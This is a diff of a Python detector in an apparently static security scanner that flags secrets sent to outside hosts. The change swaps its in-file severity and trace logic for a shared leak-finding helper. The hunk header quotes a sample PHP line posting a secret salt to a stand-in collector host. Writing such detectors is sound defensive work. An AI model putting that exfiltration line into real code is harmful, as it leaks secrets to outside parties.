@@ -19,149 +19,22 @@ http_post("https://collector.example.net/", array("k" => $GLOBALS['salt']));
 
 from __future__ import annotations
 
-from collections.abc import Iterable, Mapping
+from collections.abc import Iterable
 
-from scanner.analysis.code import KIND as CODE
-from scanner.analysis.destinations import LOCAL, OWN_SERVER
-from scanner.analysis.sensitive import SETTING, WRITE
 from scanner.analysis.summary import Hit
-from scanner.analysis.values import Trace, all_labels, merge_labels
-from scanner.detectors.base import Detector, Scene, finding, rule, steps
-from scanner.detectors.egress import details
-from scanner.detectors.targets import expected, known_host, leaves, target
-from scanner.model.finding import Category, Confidence, Finding, Severity, TraceStep
-from scanner.model.signature import Certainty, Secret, SecretOrigin
+from scanner.detectors.base import Detector, Scene, rule
+from scanner.detectors.leaks import leak_findings
+from scanner.model.finding import Category, Finding
 
 RULE = rule("secret-to-network", Category.EXFILTRATION, "Secret reaches a call that leaves the server", __doc__)
-_IGNORED_ROLES = frozenset({"signing", "handle", "client", "callback", "file-out"})
-_NO_CALL = frozenset({CODE, SETTING, WRITE})
-"""Kinds of calls that do not leave the server themselves."""
-_HASH = "hash-of:"
-_SHORT_WAY = 6
 
 
-def _labels(scene: Scene, hit: Hit) -> Mapping[str, Trace]:
-    labels: Mapping[str, Trace] = {}
-    for role in sorted(hit.roles):
-        if role not in _IGNORED_ROLES and not role.startswith("tls:"):
-            labels = merge_labels(labels, all_labels(hit.roles[role]))
-    return {label: trace for label, trace in labels.items() if scene.result.state.is_secret(label)}
+def _wanted(hit: Hit) -> bool:
+    return hit.signature.kind != "redirect"
 
 
 def _find(scene: Scene) -> Iterable[Finding]:
-    best: dict[tuple[str, str, int], tuple[int, Finding]] = {}
-    for hit in scene.result.hits:
-        labels = _labels(scene, hit) if hit.signature.kind not in _NO_CALL else {}
-        if not labels or _harmless(hit):
-            continue
-        place = target(scene, hit)
-        outside = leaves(place.destinations)
-        if not outside and not place.by_caller:
-            continue
-        for label in sorted(labels):
-            found = _finding(scene, hit, label, labels[label], outside)
-            key = (label, hit.inner[0] + str(hit.inner[1]) + hit.signature.id, hit.function)
-            known = best.get(key)
-            if known is None or (len(found.trace), found.line) < (known[0], known[1].line):
-                best[key] = (len(found.trace), found)
-    for _length, found in best.values():
-        yield found
-
-
-def _harmless(hit: Hit) -> bool:
-    """Local database work and file functions on local paths do not send."""
-    if hit.signature.certainty is Certainty.IF_URL:
-        return not any(role in hit.roles for role in ("url", "host"))
-    return False
-
-
-def _finding(scene: Scene, hit: Hit, label: str, trace: Trace, outside: list[str]) -> Finding:
-    plain = label.removeprefix(_HASH)
-    secret = scene.result.state.origins.by_label.get(plain)
-    severity = _severity(scene, secret, outside, hashed=label.startswith(_HASH))
-    if severity in (Severity.HIGH, Severity.MEDIUM) and not _literal(outside):
-        severity = _without_host(hit, label, trace, severity)
-    if hit.signature.kind == "db" and secret is not None and secret.kind == "db-credential" and not _literal(outside):
-        severity = Severity.INFO  # credentials are made to open the configured connection
-    where = ", ".join(outside) if outside else "a destination that callers decide"
-    api = hit.api if not hit.via else f"{hit.via[0]} ({hit.api})"
-    last = TraceStep(scene.program.path(hit.function), hit.line, f"sent by {api} to {where}")
-    digest = "a digest of " if label.startswith(_HASH) else ""
-    verdict = "as expected" if severity is Severity.INFO else "which is not a known destination of it"
-    return finding(
-        scene,
-        RULE,
-        hit.function,
-        hit.line,
-        hit.end_line,
-        span=(hit.start, hit.end),
-        severity=severity,
-        confidence=Confidence.LIKELY if hit.certain else Confidence.POSSIBLE,
-        api=api,
-        message=f"{digest}{plain} reaches {hit.api}(){_through(hit)} and goes to {where}, {verdict}",
-        destinations=outside,
-        secrets=[plain],
-        details=details(hit),
-        trace=(*steps(trace), last),
-    )
-
-
-def _through(hit: Hit) -> str:
-    return f" through {hit.via[0]}()" if hit.via else ""
-
-
-def _severity(scene: Scene, secret: Secret | None, outside: list[str], *, hashed: bool) -> Severity:
-    if secret is not None and secret.severity_floor == "info":
-        return Severity.INFO
-    if secret is not None and outside and all(_expected(secret, name) for name in outside):
-        return Severity.INFO
-    if hashed and secret is not None and outside and all(name in secret.digest_destinations for name in outside):
-        return Severity.INFO
-    if (
-        secret is not None
-        and secret.origin is SecretOrigin.FUNCTION
-        and all(known_host(scene, name) for name in outside)
-    ):
-        return Severity.MEDIUM  # which secret it is cannot be told, but the host is one of the product's own services
-    if secret is not None and outside and all(expected(secret, name.removesuffix("*")) for name in outside):
-        return Severity.MEDIUM  # the host is right so far as it is known, but more text follows it
-    worst = Severity.CRITICAL if _literal(outside) else Severity.HIGH
-    if not hashed:
-        return worst
-    return Severity.HIGH if worst is Severity.CRITICAL else Severity.MEDIUM
-
-
-def _expected(secret: Secret, name: str) -> bool:
-    """A secret may go where it is meant to, and to the destination that it names itself."""
-    return name in (LOCAL, OWN_SERVER, f"config:{secret.name}") or expected(secret, name)
-
-
-def _without_host(hit: Hit, label: str, trace: Trace, severity: Severity) -> Severity:
-    """No host is named: what counts is how sure the way is.
-
-    A secret that takes a short way inside one file to a call that surely is a network call keeps its severity. A long
-    way through other files and through calls that are only assumed to pass data on does not.
-    """
-    if label.startswith("request."):
-        return Severity.INFO  # what a visitor types reaches most of an application's code
-    paths = set()
-    current: Trace | None = trace
-    while current is not None:
-        paths.add(current.path)
-        current = current.previous
-    near = len(paths) == 1 and trace.length <= _SHORT_WAY and len(hit.via) <= 1
-    if near and hit.signature.certainty is Certainty.ALWAYS and hit.certain:
-        return severity
-    return Severity.LOW
-
-
-def _literal(outside: list[str]) -> bool:
-    return any(_foreign(name) for name in outside)
-
-
-def _foreign(name: str) -> bool:
-    """A destination that the code names itself, unlike one that a setting names or that is unknown."""
-    return ":" not in name and name not in ("unresolved", "user-input", OWN_SERVER, LOCAL, "local-mail-server")
+    return leak_findings(scene, RULE, _wanted)
 
 
 DETECTOR = Detector(RULE, _find)
